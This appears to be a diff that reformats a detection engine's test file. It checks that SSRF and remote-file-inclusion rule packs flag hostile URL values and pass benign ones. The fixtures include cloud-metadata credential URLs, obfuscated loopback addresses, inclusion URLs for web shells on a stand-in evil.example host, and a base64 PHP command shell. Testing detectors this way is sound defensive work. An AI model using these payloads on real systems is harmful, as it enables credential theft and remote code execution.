@@ -14,12 +14,28 @@ const score = (pack: RulePack, value: string, location: ValueLocation = 'query',
 describe('SSRF pack', () => {
   it('alerts alone on internal, metadata, rebinding and parser-confusing URLs in any notation', () => {
     for (const value of [
-      'http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://metadata.google.internal/computeMetadata/v1/',
-      'http://100.100.100.200/latest/meta-data/', 'http://[fd00:ec2::254]/latest/api/token', 'http://2130706433/', 'http://0x7f.1/admin',
-      'http://0177.0.0.1/', 'http://127.1:8080/', 'http://0/', 'http://[::ffff:127.0.0.1]/', 'http://[0:0:0:0:0:ffff:7f00:1]/',
-      'https://example.com@127.0.0.1', 'http://localtest.me/', 'http://10.0.0.5:6379/', 'gopher://127.0.0.1:6379/_SET', 'dict://localhost:11211/stat',
-      'http://127.0.0.1.nip.io/', 'http://1.1.1.1&@2.2.2.2#@3.3.3.3/', 'http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/', 'http%3A%2F%2F127.0.0.1%2Fadmin',
-    ]) expect({ value, score: score(ssrfPack, value) >= 5 }).toEqual({ value, score: true });
+      'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
+      'http://metadata.google.internal/computeMetadata/v1/',
+      'http://100.100.100.200/latest/meta-data/',
+      'http://[fd00:ec2::254]/latest/api/token',
+      'http://2130706433/',
+      'http://0x7f.1/admin',
+      'http://0177.0.0.1/',
+      'http://127.1:8080/',
+      'http://0/',
+      'http://[::ffff:127.0.0.1]/',
+      'http://[0:0:0:0:0:ffff:7f00:1]/',
+      'https://example.com@127.0.0.1',
+      'http://localtest.me/',
+      'http://10.0.0.5:6379/',
+      'gopher://127.0.0.1:6379/_SET',
+      'dict://localhost:11211/stat',
+      'http://127.0.0.1.nip.io/',
+      'http://1.1.1.1&@2.2.2.2#@3.3.3.3/',
+      'http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/',
+      'http%3A%2F%2F127.0.0.1%2Fadmin',
+    ])
+      expect({ value, score: score(ssrfPack, value) >= 5 }).toEqual({ value, score: true });
   });
 
   it('finds a URL pasted into a URL path', () => {
@@ -44,12 +60,20 @@ describe('SSRF pack', () => {
 describe('RFI pack', () => {
   it('alerts alone on inclusion forms', () => {
     for (const [value, name] of [
-      ['http://evil.example/shell.txt?', 'q'], ['http://evil.example/shell.txt%00', 'q'], ['https://evil.example/x??', 'q'],
-      ['ftp://198.51.100.7/c99.txt?', 'q'], ['/index.php?mosConfig_absolute_path=http://evil.example/x.txt?', 'q'],
-      ['data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+', 'q'], ['data:text/plain,<?php phpinfo(); ?>', 'q'], ['php://input', 'q'],
-      ['expect://id', 'q'], ['\\\\198.51.100.7\\share\\shell.php', 'q'], ['http://evil.example/shell.txt', 'include_path'],
+      ['http://evil.example/shell.txt?', 'q'],
+      ['http://evil.example/shell.txt%00', 'q'],
+      ['https://evil.example/x??', 'q'],
+      ['ftp://198.51.100.7/c99.txt?', 'q'],
+      ['/index.php?mosConfig_absolute_path=http://evil.example/x.txt?', 'q'],
+      ['data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+', 'q'],
+      ['data:text/plain,<?php phpinfo(); ?>', 'q'],
+      ['php://input', 'q'],
+      ['expect://id', 'q'],
+      ['\\\\198.51.100.7\\share\\shell.php', 'q'],
+      ['http://evil.example/shell.txt', 'include_path'],
       ['/core/admin/showcat.php?absoluteurlhttp://evil.example/r57.txt?', 'q'],
-    ] as const) expect({ value, alerts: score(rfiPack, value, 'query', name) >= 5 }).toEqual({ value, alerts: true });
+    ] as const)
+      expect({ value, alerts: score(rfiPack, value, 'query', name) >= 5 }).toEqual({ value, alerts: true });
   });
 
   it('weaker forms add up at higher levels only', () => {
@@ -60,11 +84,16 @@ describe('RFI pack', () => {
 
   it('does not alert on everyday URL-valued parameters', () => {
     for (const [value, location, name] of [
-      ['https://www.example.com/product.php?id=3', 'query', 'dl'], ['https://home.example.com/?', 'query', 'continue'],
-      ['https://cdn.example.net/img/1x1.png', 'query', 'google_redir'], ['https://www.example.nl/winkelmandje', 'query', 'pagepath'],
-      ['https://static.example.net/app.3010468e.js', 'body_json', '[].body.sourceFile'], ['https://cdn.example.com/ht/pixel.gif?', 'query', 'cb'],
-      ['https://shop.example.com/index.php?', 'header', 'Referer'], ['https://example.com/login.php?next=https://example.com/account', 'query', 'url'],
-    ] as const) expect({ value, alerts: score(rfiPack, value, location, name) >= 5 }).toEqual({ value, alerts: false });
+      ['https://www.example.com/product.php?id=3', 'query', 'dl'],
+      ['https://home.example.com/?', 'query', 'continue'],
+      ['https://cdn.example.net/img/1x1.png', 'query', 'google_redir'],
+      ['https://www.example.nl/winkelmandje', 'query', 'pagepath'],
+      ['https://static.example.net/app.3010468e.js', 'body_json', '[].body.sourceFile'],
+      ['https://cdn.example.com/ht/pixel.gif?', 'query', 'cb'],
+      ['https://shop.example.com/index.php?', 'header', 'Referer'],
+      ['https://example.com/login.php?next=https://example.com/account', 'query', 'url'],
+    ] as const)
+      expect({ value, alerts: score(rfiPack, value, location, name) >= 5 }).toEqual({ value, alerts: false });
   });
 });
 
